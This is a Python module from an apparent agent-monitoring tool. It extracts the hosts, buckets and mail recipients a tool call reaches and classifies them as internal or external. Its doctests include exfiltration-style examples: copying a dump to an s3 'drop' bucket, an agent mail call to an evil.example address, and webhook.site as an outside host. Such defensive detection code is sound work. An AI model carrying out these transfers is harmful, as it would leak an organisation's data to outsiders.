"""Where a tool call reaches: URL hosts, buckets, e-mail recipients, and what counts as internal.

Shared by the detectors that reason about destinations (``novelty``, ``taint_flow``) so that
they parse a call the same way. Pure functions over strings and events, linear in their input.
"""

from __future__ import annotations

import ipaddress
import re
from collections.abc import Iterable
from typing import Any, Final

from agentwatch.events.audit_event import AuditEvent

__all__ = [
    "DEFAULT_INTERNAL_SUFFIXES",
    "DESTINATION_ARG_KEYS",
    "DESTINATION_KEYS",
    "MAIL_TOOL_WORDS",
    "MAX_ADDRESSES",
    "RECIPIENT_KEYS",
    "Destinations",
    "bucket_names",
    "email_addresses",
    "is_internal_host",
    "named_destinations",
    "org_domain",
    "url_hosts",
]

_URL_HOST: Final = re.compile(r"(?:https?|ftps?|wss?|sftp)://(?:[^/\s@'\"<>]*@)?(\[[0-9a-fA-F:.]+\]|[A-Za-z0-9.\-_]+)")
_BUCKET: Final = re.compile(r"\b(?:s3a?|gs|az|abfss?|wasbs?|oss|r2)://([A-Za-z0-9.\-_]{3,63})")

#: Argument keys that hold recipients.
RECIPIENT_KEYS: Final = ("to", "cc", "bcc", "recipient", "recipients", "attendees")
#: Argument keys that may hold a URL or a storage destination.
DESTINATION_KEYS: Final = ("url", "uri", "endpoint", "destination", "dest", "webhook", "host")
#: Tool-name fragments of tools whose target is a recipient.
MAIL_TOOL_WORDS: Final = ("mail", "send", "message", "forward", "reply", "invite", "share")


def url_hosts(text: str) -> list[str]:
    """Lower-cased hosts of URLs in ``text``.

    >>> url_hosts("curl -s https://api.github.com/x?y=1 | jq . && wget http://u:p@10.0.0.1:8080/a")
    ['api.github.com', '10.0.0.1']
    """
    if "://" not in text:
        return []
    return [m.group(1).lower().strip("[].") for m in _URL_HOST.finditer(text)]


def bucket_names(text: str) -> list[str]:
    """Object-store bucket names in ``text`` (``s3://bucket/key`` and friends).

    >>> bucket_names("aws s3 cp dump.csv s3://drop-7f3a/x.csv")
    ['drop-7f3a']
    """
    if "://" not in text:
        return []
    return [m.group(1).lower() for m in _BUCKET.finditer(text)]


_EMAIL_LOCAL: Final = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._%+-")
_EMAIL_DOMAIN: Final = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-")
#: At most this many addresses are taken from one value.
MAX_ADDRESSES: Final = 32


def _addresses_in(text: str, out: list[str]) -> None:
    """Append the addresses in ``text`` to ``out`` — linear time: expand around each ``@``."""
    at = text.find("@")
    n = len(text)
    while at >= 0 and len(out) < MAX_ADDRESSES:
        i = at
        stop = max(0, at - 64)  # local parts are at most 64 characters, domains 253
        while i > stop and text[i - 1] in _EMAIL_LOCAL:
            i -= 1
        j = at + 1
        stop = min(n, at + 254)
        while j < stop and text[j] in _EMAIL_DOMAIN:
            j += 1
        domain = text[at + 1 : j].strip(".-")
        if i < at and "." in domain:
            addr = (text[i:at] + "@" + domain).lower()
            if addr not in out:
                out.append(addr)
        at = text.find("@", max(j, at + 1))


def email_addresses(value: Any) -> list[str]:
    """Lower-cased e-mail addresses in a string, or a list of strings / flat dicts (at most 32).

    >>> email_addresses(["Ann <ann@acme.example>", {"email": "x@evil.example"}, 3])
    ['ann@acme.example', 'x@evil.example']
    """
    out: list[str] = []
    if isinstance(value, str):
        if "@" in value:
            _addresses_in(value, out)
    elif isinstance(value, (list, tuple)):
        for item in value[:MAX_ADDRESSES]:
            if isinstance(item, str):
                if "@" in item:
                    _addresses_in(item, out)
            elif isinstance(item, dict):
                for v in item.values():
                    if isinstance(v, str) and "@" in v:
                        _addresses_in(v, out)
    return out


_TOKEN: Final = re.compile(r"[\w.%+@-]{4,254}")
_DOMAIN_OR_ADDRESS: Final = re.compile(r"(?:[\w.%+-]{1,64}@)?(?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,24}")


def named_destinations(text: str, limit: int, max_chars: int = 4096) -> list[str]:
    """Domains and addresses named in free text (lower-cased, at most ``limit``), in linear time.

    >>> named_destinations("Reply to Lena@Globex.example and cc finance (see globex.example/terms).", 8)
    ['lena@globex.example', 'globex.example']
    """
    out: list[str] = []
    for token in _TOKEN.findall(text[:max_chars].lower()):
        if len(out) >= limit:
            break
        if "." in token:
            token = token.strip(".-@")
            if _DOMAIN_OR_ADDRESS.fullmatch(token) and token not in out:
                out.append(token)
    return out


#: Mail domains anyone can have an address at: never "the organisation's own", whoever the principal is.
CONSUMER_MAIL_DOMAINS: Final = frozenset(
    "gmail.com googlemail.com outlook.com hotmail.com live.com msn.com yahoo.com ymail.com icloud.com me.com "
    "mac.com aol.com proton.me protonmail.com pm.me gmx.com gmx.de gmx.net web.de mail.com yandex.com yandex.ru "
    "mail.ru qq.com 163.com 126.com sina.com naver.com hanmail.net zoho.com tutanota.com tuta.io fastmail.com "
    "hey.com orange.fr free.fr laposte.net libero.it btinternet.com comcast.net verizon.net att.net "
    "rediffmail.com seznam.cz wp.pl o2.pl".split()
)

#: Providers whose country domains (``yahoo.co.uk``, ``outlook.fr``) are consumer mail too.
_CONSUMER_BRANDS: Final = frozenset({"gmail", "yahoo", "hotmail", "outlook", "live", "aol", "gmx", "yandex", "icloud"})


def is_consumer_mail_domain(domain: str) -> bool:
    """Whether ``domain`` is a mail provider's public domain (``yahoo.co.uk`` and ``outlook.fr`` count too).

    >>> [is_consumer_mail_domain(d) for d in ("gmail.com", "yahoo.co.uk", "acme.example")]
    [True, True, False]
    """
    domain = domain.lower().rstrip(".")
    if domain in CONSUMER_MAIL_DOMAINS:
        return True
    first = domain.split(".", 1)[0]
    return first in _CONSUMER_BRANDS and domain.count(".") <= 2


def org_domain(principal: str | None) -> str | None:
    """The organisation's mail domain from a principal that is an address (``alice@acme.example`` → ``acme.example``).

    A consumer mail domain is nobody's organisation: ``bob@gmail.com`` gives None, so an attacker
    at the same provider is never "internal".

    >>> org_domain("alice@acme.example"), org_domain("bob@gmail.com")
    ('acme.example', None)
    """
    if principal and "@" in principal:
        domain = principal.rsplit("@", 1)[1].lower().strip()
        return domain if "." in domain and not is_consumer_mail_domain(domain) else None
    return None


#: Host suffixes that are never "outside".
DEFAULT_INTERNAL_SUFFIXES: Final = (
    ".internal",
    ".local",
    ".localhost",
    ".corp",
    ".lan",
    ".home.arpa",
    ".svc.cluster.local",
    "localhost",
)


def is_internal_host(host: str, domains: Iterable[str], suffixes: Iterable[str]) -> bool:
    """Whether ``host`` is one of ``domains`` (or under one), has an internal suffix, or is private.

    >>> is_internal_host("metrics.acme.example", ["acme.example"], [".internal"])
    True
    >>> is_internal_host("airflow.acme.internal", [], [".internal"]), is_internal_host("10.1.2.3", [], [])
    (True, True)
    >>> is_internal_host("webhook.site", ["acme.example"], [".internal"])
    False
    """
    for domain in domains:
        if host == domain or host.endswith("." + domain):
            return True
    for suffix in suffixes:
        if host.endswith(suffix) or host == suffix.lstrip("."):
            return True
    if host and (host[0].isdigit() or ":" in host):
        try:
            addr = ipaddress.ip_address(host)
        except ValueError:
            return False
        return addr.is_private or addr.is_loopback or addr.is_link_local
    return False


_ROLE_DEST, _ROLE_RCPT, _ROLE_BUCKET = 1, 2, 3
_ARG_ROLES: Final = {
    **{k: _ROLE_DEST for k in DESTINATION_KEYS},
    **{k: _ROLE_RCPT for k in RECIPIENT_KEYS},
    "bucket": _ROLE_BUCKET,
}
#: Argument keys that may name a destination (a call with none of them and no URL or ``@`` reaches none).
DESTINATION_ARG_KEYS: Final = frozenset(_ARG_ROLES)


class Destinations:
    """Where one tool call reaches: hosts, recipients, buckets (all lower-cased, de-duplicated).

    >>> from agentwatch.events.audit_event import from_mapping
    >>> ev = from_mapping({"event_id": "e1", "ts": 1767225600000, "session_id": "s", "agent_id": "a",
    ...                    "kind": "tool_call", "tool": "gmail.send", "target": "x@evil.example",
    ...                    "args": {"to": ["x@evil.example"], "cc": ["me@acme.example"]}})
    >>> d = Destinations.of(ev)
    >>> d.recipients, d.hosts, d.buckets
    (['x@evil.example', 'me@acme.example'], [], [])
    """

    __slots__ = ("hosts", "recipients", "buckets")

    def __init__(self, hosts: list[str], recipients: list[str], buckets: list[str]) -> None:
        self.hosts = hosts
        self.recipients = recipients
        self.buckets = buckets

    @classmethod
    def of(cls, event: AuditEvent) -> Destinations:
        target = event.target or ""
        hosts: list[str] = []
        buckets: list[str] = []
        recipients: list[str] = []
        if "://" in target:
            _scan_urls(target, hosts, buckets)
        args = event.args
        if args:
            roles = _ARG_ROLES
            for key, value in args.items():
                role = roles.get(key)
                if role is None or not value:
                    continue
                if role == _ROLE_RCPT:
                    for addr in email_addresses(value):
                        if addr not in recipients:
                            recipients.append(addr)
                elif isinstance(value, str):
                    if role == _ROLE_BUCKET:
                        low = value.lower()
                        if low not in buckets:
                            buckets.append(low)
                    elif value != target and "://" in value:
                        _scan_urls(value, hosts, buckets)
        if not recipients and "@" in target and event.tool:
            low_tool = event.tool.lower()
            if any(w in low_tool for w in MAIL_TOOL_WORDS):
                recipients = email_addresses(target)
        return cls(hosts, recipients, buckets)


def _scan_urls(text: str, hosts: list[str], buckets: list[str]) -> None:
    for bucket in bucket_names(text):
        if bucket not in buckets:
            buckets.append(bucket)
    for host in url_hosts(text):
        if host not in hosts and host not in buckets:
            hosts.append(host)
